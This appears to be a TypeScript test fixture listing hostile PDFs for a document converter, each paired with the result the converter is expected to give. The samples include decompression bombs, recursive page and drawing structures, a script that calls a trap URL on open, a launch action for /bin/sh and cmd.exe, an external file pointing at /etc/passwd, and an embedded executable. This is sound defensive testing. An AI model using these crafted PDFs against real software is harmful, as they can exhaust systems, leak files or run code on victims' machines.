import { deflateSync } from 'node:zlib';
import { expect } from 'vitest';
import { contains } from './contains.ts';
import { overLimits } from './document.ts';
import type { HostileDocument } from './document.ts';
import { lockedPdf } from './locked-pdf.ts';
import { noise } from './noise.ts';
import { helvetica, onePage, pdf, stream, words } from './pdf-file.ts';
import { zlibZeros } from './zeros.ts';

const many = (count: number, text: (at: number) => string): string =>
  Array.from({ length: count }, (_, at) => text(at)).join('');

export const hostilePdf: HostileDocument[] = [
  {
    what: 'a password-protected PDF',
    name: 'locked.pdf',
    make: lockedPdf,
    ends: 'encrypted',
  },
  {
    what: 'a PDF that was cut in half',
    name: 'cut.pdf',
    make: () => {
      const whole = onePage(stream(many(500, (at) => words(`line ${at}`))));
      return whole.subarray(0, whole.length / 2);
    },
    ends: 'damaged',
  },
  {
    what: 'a PDF of 10,000 pages',
    name: 'pages.pdf',
    make: () => {
      const count = 10_000;
      return pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        `<< /Type /Pages /Count ${count} /Kids [${many(count, (at) => `${at + 5} 0 R `)}] >>`,
        helvetica,
        stream(words('the same on each page')),
        ...Array.from(
          { length: count },
          () =>
            '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 3 0 R >> >> >>',
        ),
      ]);
    },
    ends: 'too-large',
  },
  {
    what: 'a PDF that declares two billion pages',
    name: 'boast.pdf',
    make: () =>
      Buffer.from(
        onePage(stream(words('one')))
          .toString('latin1')
          .replace('/Count 1 ', '/Count 2000000000 '),
        'latin1',
      ),
    ends: 'converted',
  },
  {
    what: 'a PDF whose pages contain themselves',
    name: 'cycle.pdf',
    make: () =>
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>',
        '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 2 0 R] /Count 2 >>',
      ]),
    ends: 'damaged',
  },
  {
    what: 'a PDF whose cross-reference tables point at each other',
    name: 'tables.pdf',
    make: () => {
      const text = onePage(stream(words('still there'))).toString('latin1');
      const start = text.indexOf('xref\n');
      return Buffer.from(text.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${start}`), 'latin1');
    },
    ends: 'converted',
    check: contains('still there'),
  },
  {
    what: 'a PDF page of 1 GB of zeros',
    name: 'bomb.pdf',
    make: () => onePage(stream(zlibZeros(1000), '/Filter /FlateDecode')),
    ends: overLimits,
  },
  {
    what: 'a PDF page deflated twice over',
    name: 'twice.pdf',
    make: () => onePage(stream(deflateSync(zlibZeros(1000)), '/Filter [/FlateDecode /FlateDecode]')),
    ends: overLimits,
  },
  {
    what: 'a PDF whose object stream is 1 GB of zeros',
    name: 'objects.pdf',
    make: () =>
      onePage(stream(words('before')), {
        page: '/Annots 6 0 R',
        more: [stream(zlibZeros(1000), '/Type /ObjStm /N 1000000 /First 8000000 /Filter /FlateDecode')],
      }),
    ends: 'converted',
    check: contains('before'),
  },
  {
    what: 'a PDF page as large as a country',
    name: 'huge.pdf',
    make: () => onePage(stream(words('small')), { page: '/MediaBox [0 0 1e9 1e9] /UserUnit 1e6' }),
    ends: 'converted',
    check: contains('small'),
  },
  {
    what: 'a PDF that runs a script when opened',
    name: 'script.pdf',
    make: (trap) =>
      onePage(stream(words('the text')), {
        catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${trap}"\\); for\\(;;\\);) >>`,
      }),
    ends: 'converted',
    check: contains('the text'),
  },
  {
    what: 'a PDF that starts a program, and sends a form',
    name: 'launch.pdf',
    make: (trap) =>
      onePage(stream(words('the text')), {
        catalog: '/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>',
        page: `/AA << /O << /S /SubmitForm /F (${trap}/form) >> >>`,
      }),
    ends: 'converted',
    check: contains('the text'),
  },
  {
    what: 'a PDF with external contents and an external image',
    name: 'elsewhere.pdf',
    make: (trap) =>
      onePage(stream(words('the text')), {
        resources: '/XObject << /I 6 0 R /J 7 0 R >>',
        more: [
          stream(
            '',
            `/Type /XObject /Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (${trap}/i.png) >>`,
          ),
          stream('', '/Type /XObject /Subtype /Image /Width 9 /Height 9 /F (/etc/passwd)'),
        ],
      }),
    ends: 'converted',
    check: (taken) => {
      contains('the text')(taken);
      expect(JSON.stringify(taken.outcome)).not.toContain('root:');
    },
  },
  {
    what: 'a PDF with an embedded executable',
    name: 'carrier.pdf',
    make: () =>
      onePage(stream(words('the text')), {
        catalog: '/Names << /EmbeddedFiles << /Names [(run.exe) 6 0 R] >> >>',
        more: [
          '<< /Type /Filespec /F (run.exe) /EF << /F 7 0 R >> >>',
          stream('MZ evil', '/Type /EmbeddedFile'),
        ],
      }),
    ends: 'converted',
    check: (taken) => {
      contains('the text')(taken);
      expect(taken.inside.filter(({ outcome }) => outcome.kind === 'converted')).toEqual([]);
    },
  },
  {
    what: 'a PDF page with a million separately positioned words',
    name: 'words.pdf',
    make: () =>
      onePage(
        stream(
          // The positions repeat after 47,400 words.
          deflateSync(many(47_400, (at) => words('w', at % 600, at % 790)).repeat(21), { level: 1 }),
          '/Filter /FlateDecode',
        ),
      ),
    ends: overLimits,
  },
  {
    what: 'a PDF whose drawings call each other ten billion times',
    name: 'laughs.pdf',
    make: () => {
      const form = (next: number): ReturnType<typeof stream> =>
        stream(
          '/N Do '.repeat(10) + words('ha'),
          `/Type /XObject /Subtype /Form /BBox [0 0 9 9]
/Resources << /Font << /F1 5 0 R >> /XObject << /N ${next} 0 R >> >>`,
        );
      return onePage(stream('/N Do'), {
        resources: '/XObject << /N 6 0 R >>',
        more: Array.from({ length: 10 }, (_, at) => form(7 + at)).concat(form(5)),
      });
    },
    ends: overLimits,
  },
  {
    what: 'a PDF whose drawing calls itself',
    name: 'self.pdf',
    make: () =>
      onePage(stream(`/N Do ${words('the text')}`), {
        resources: '/XObject << /N 6 0 R >>',
        more: [
          stream(
            '/N Do',
            '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /N 6 0 R >> >>',
          ),
        ],
      }),
    ends: 'converted',
    check: contains('the text'),
  },
  {
    what: 'a PDF of a million brackets',
    name: 'brackets.pdf',
    make: () => onePage(stream(words('the text')), { page: '/Annots 6 0 R', more: ['['.repeat(1_000_000)] }),
    ends: 'damaged',
  },
  {
    what: 'a PDF with a picture of ten billion pixels',
    name: 'pixels.pdf',
    make: () =>
      onePage(stream(`${words('the text')} q 500 0 0 500 50 50 cm /I Do Q`), {
        resources: '/XObject << /I 6 0 R >>',
        more: [
          stream(
            zlibZeros(100),
            '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode',
          ),
        ],
      }),
    ends: 'converted',
    check: contains('the text'),
  },
  {
    what: 'a PDF with random bytes after its first line',
    name: 'noise.pdf',
    make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(1_000_000)]),
    ends: 'damaged',
  },
  {
    what: 'a PDF of five bytes',
    name: 'short.pdf',
    make: () => Buffer.from('%PDF-'),
    ends: 'damaged',
  },
];
